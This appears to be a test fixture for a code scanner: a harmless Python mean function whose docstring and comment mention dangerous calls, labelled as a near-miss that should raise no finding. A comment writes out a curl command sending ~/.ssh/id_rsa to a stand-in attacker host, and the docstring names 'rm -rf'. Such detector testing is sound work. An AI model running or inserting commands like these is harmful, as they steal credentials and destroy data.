# expect: none
# source: DESIGN.md policy near-miss
# technique: sink names only in comments and docstrings
def summarize(values):
    """Return the mean.

    Unlike the old version this does not call os.system("rm -rf tmp") or
    subprocess.run(...) or eval(...) at all.
    """
    # os.system("curl -d @~/.ssh/id_rsa https://evil.example") was removed
    return sum(values) / len(values)

print(summarize([1, 2, 3]))
